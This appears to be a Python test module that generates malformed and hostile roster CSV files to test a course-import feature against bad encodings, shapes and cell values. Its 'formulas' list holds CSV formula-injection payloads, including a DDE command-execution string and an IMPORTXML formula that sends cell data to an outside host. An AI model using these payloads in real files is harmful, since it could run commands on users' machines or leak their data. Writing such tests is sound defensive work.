"""The corpus: roster CSV files."""

import random
from collections.abc import Iterator

from tests.courses.import_mutations.base import (
    ROSTER_HEADERS,
    Mutant,
    csv_of,
    good_row,
    roster_csv,
    roster_rows,
)
from tests.courses.import_mutations.damage import BYTE_DAMAGE, flipped
from tests.courses.roster_files import cp1258_bytes


def csv_byte_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = roster_csv()
    for name, damage in BYTE_DAMAGE.items():
        for _ in range(35 if name == "flipped" else 20):
            yield Mutant(f"csv {name}", "ds.csv", damage(base, rnd))


def csv_encodings(rnd: random.Random) -> Iterator[Mutant]:
    text = csv_of(roster_rows())
    half = len(text) // 2
    yield Mutant("utf-16-le without BOM", "ds.csv", text.encode("utf-16-le"))
    yield Mutant("utf-16-be without BOM", "ds.csv", text.encode("utf-16-be"))
    yield Mutant("utf-16 with BOM", "ds.csv", text.encode("utf-16"))
    yield Mutant("utf-16 BOM, odd length", "ds.csv", text.encode("utf-16")[:-1])
    yield Mutant("utf-32", "ds.csv", text.encode("utf-32"))
    yield Mutant("cp1258", "ds.csv", cp1258_bytes(text))
    yield Mutant("utf-8 BOM", "ds.csv", text.encode("utf-8-sig"))
    mojibake = text.encode().decode("latin-1")
    yield Mutant("latin-1 mojibake", "ds.csv", mojibake.encode(), mojibake)
    yield Mutant(
        "latin-1 mojibake twice",
        "ds.csv",
        mojibake.encode().decode("latin-1").encode(),
        mojibake,
    )
    yield Mutant("cp1252 lossy", "ds.csv", text.encode("cp1252", errors="replace"))
    yield Mutant(
        "mixed utf-8 and cp1258",
        "ds.csv",
        text[:half].encode() + cp1258_bytes(text[half:]),
    )
    yield Mutant(
        "mixed utf-8 and utf-16",
        "ds.csv",
        text[:half].encode() + text[half:].encode("utf-16-le"),
    )
    for _ in range(8):
        codec = rnd.choice(["utf-16-le", "utf-16-be", "latin-1", "cp1258"])
        data = (
            cp1258_bytes(text) if codec == "cp1258" else text.encode(codec, "replace")
        )
        yield Mutant(
            f"{codec} flipped", "ds.csv", flipped(data, rnd, rnd.randint(1, 6))
        )


def csv_shapes(rnd: random.Random) -> Iterator[Mutant]:
    rows = roster_rows()
    for _ in range(20):
        ragged = [
            row[: rnd.randint(0, len(row))]
            if rnd.random() < 0.5
            else row + [rnd.choice(["", "x", "Nữ", "0912"])] * rnd.randint(1, 20)
            for row in rows
        ]
        yield Mutant("ragged rows", "ds.csv", csv_of(ragged).encode())
    for name, data in {
        "empty file": b"",
        "only spaces": b"   \r\n\t ",
        "only a BOM": b"\xef\xbb\xbf",
        "only newlines": b"\r\n" * 50,
        "only commas": b",,,,\r\n" * 20,
        "only NULs": b"\x00" * 64,
    }.items():
        yield Mutant(name, "ds.csv", data)
    header = csv_of([])
    yield Mutant("header only", "ds.csv", header.encode())
    yield Mutant("header twice", "ds.csv", (header * 2).encode())
    yield Mutant(
        "header between rows",
        "ds.csv",
        csv_of([*rows[:3], ROSTER_HEADERS, *rows[3:]]).encode(),
    )
    doubled = [*ROSTER_HEADERS, "Họ và tên", "SĐT"]
    yield Mutant(
        "duplicated header columns",
        "ds.csv",
        csv_of([[*row, "Lò Văn Páo", "0987654321"] for row in rows], doubled).encode(),
    )
    yield Mutant(
        "header below 30 title lines",
        "ds.csv",
        (("DANH SÁCH\r\n" * 31) + csv_of(rows)).encode(),
    )
    yield Mutant(
        "no known header",
        "ds.csv",
        csv_of(rows, ["A", "B", "C", "D", "E", "F", "G", "H", "I", "J"]).encode(),
    )
    yield Mutant(
        "header without a name column",
        "ds.csv",
        csv_of(rows, ["STT", "Ngày sinh", *"ABCDEFGH"]).encode(),
    )
    for separator in (";", "\t", "|"):
        yield Mutant(
            f"separated by {separator!r}",
            "ds.csv",
            csv_of(rows).replace(",", separator).encode(),
        )
    for newline, name in (("\r", "CR-only"), ("\n", "LF-only"), ("\u2028", "U+2028")):
        yield Mutant(
            f"{name} newlines", "ds.csv", csv_of(rows).replace("\r\n", newline).encode()
        )
    mixed = "".join(
        line + rnd.choice(["\r", "\n", "\r\n"]) for line in csv_of(rows).splitlines()
    )
    yield Mutant("mixed newlines", "ds.csv", mixed.encode())
    quoted = [good_row(1, **{"Ghi chú": "dòng một\r\ndòng hai\rdòng ba"})]
    yield Mutant("newlines inside a quoted cell", "ds.csv", csv_of(quoted).encode())
    yield Mutant("no newline at the end", "ds.csv", csv_of(rows).rstrip().encode())
    for _ in range(6):
        text = csv_of(rows)
        at = rnd.randrange(len(text))
        yield Mutant(
            "unbalanced quote", "ds.csv", (text[:at] + '"' + text[at:]).encode()
        )
    yield Mutant(
        "quote never closed over 10,000 rows",
        "ds.csv",
        csv_of(roster_rows(6) * 2000).replace("CTV", '"CTV', 1).encode(),
    )


def csv_cells(rnd: random.Random) -> Iterator[Mutant]:
    cells = {
        "very long notes (200 KB)": {"Ghi chú": "dài " * 50_000},
        "cell of exactly 131,072 characters": {"Ghi chú": "x" * 131_072},
        "very long name (1,000)": {"Họ và tên": "Nguyễn " * 143},
        "name of 151 characters": {"Họ và tên": "Lò " + "A" * 148},
        "given name of 60 letters": {"Họ và tên": "Nguyễn " + "a" * 60},
        "name folding longer than it is": {"Họ và tên": " ".join(["ﬃ"] * 75)},
        "phone of 10,000 digits": {"Số điện thoại": "9" * 10_000},
        "very long role (100 KB)": {"Chức danh": "CTV " * 25_000},
        "very long header": {},
    }
    for kind, change in cells.items():
        headers = ROSTER_HEADERS
        if kind == "very long header":
            headers = [*ROSTER_HEADERS, "Cột " * 30_000]
        rows = [good_row(1, **change), good_row(2)]
        if kind == "very long header":
            rows = [[*row, "x"] for row in rows]
        yield Mutant(kind, "ds.csv", csv_of(rows, headers).encode(), str(change))
    for _ in range(10):
        text = csv_of(roster_rows())
        for _ in range(rnd.randint(1, 5)):
            at = rnd.randrange(len(text))
            text = text[:at] + "\x00" * rnd.randint(1, 3) + text[at:]
        yield Mutant("NUL bytes", "ds.csv", text.encode())
    yield Mutant(
        "NUL inside a name",
        "ds.csv",
        csv_of([good_row(1, **{"Họ và tên": "Lò Thị\x00 Mai"})]).encode(),
    )
    formulas = [
        '=HYPERLINK("http://example.com","Bấm vào đây")',
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+84912345678",
        "-2+3",
        '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
        "\t=1+1",
    ]
    for formula in formulas:
        column = rnd.choice(
            ["Họ và tên", "Ghi chú", "Chức danh", "Số điện thoại", "Thôn/Bản"]
        )
        yield Mutant(
            "formula typed in CSV",
            "ds.csv",
            csv_of([good_row(1, **{column: formula}), good_row(2)]).encode(),
            formula,
        )
    values = {
        "Ngày sinh": [
            "1985-03-05",
            "5/3/85",
            "31/02/1985",
            "05.03.1985",
            "tháng 3/1985",
            "31048",
            "1985.0",
            "0",
            "-1",
            "9999",
            "1e999",
            "inf",
            "nan",
            "\uff11\uff19\uff18\uff15",  # full-width digits,
        ],
        "Số điện thoại": [
            "912345678.0",
            "9.12345678E+08",
            "+84 912 345 678",
            "0912-345-678",
            "1662345678",
            "0",
            "1e999",
            "-912345678",
        ],
        "Số CCCD": [
            "1.23456789012E+11",
            "1234567890",
            "00108500000\uff11",
            "001 085 000 001",
            "x" * 12,
        ],
        "Giới tính": ["Nam.", "NỮ", "f", "khác", "1"],
    }
    for column, texts in values.items():
        for value in texts:
            yield Mutant(
                f"{column} written oddly",
                "ds.csv",
                csv_of([good_row(1, **{column: value})]).encode(),
                value,
            )


def csv_garbage(rnd: random.Random) -> Iterator[Mutant]:
    for size in (1, 7, 100, 4096, 100_000):
        yield Mutant("random bytes", "ds.csv", rnd.randbytes(size))
    for size in (10, 1000, 50_000):
        alphabet = ',;"\r\n\t abcđươ0123456789=\x00\\'
        text = "".join(rnd.choice(alphabet) for _ in range(size))
        yield Mutant("random text", "ds.csv", text.encode(), text)
    yield Mutant("CSV named .xlsx", "ds.xlsx", roster_csv())
    yield Mutant("CSV named .xls", "ds.xls", roster_csv())
    yield Mutant("CSV starting like a zip", "ds.csv", b"PK\x03\x04" + roster_csv())
    yield Mutant("old .xls magic", "ds.csv", b"\xd0\xcf\x11\xe0" + rnd.randbytes(512))
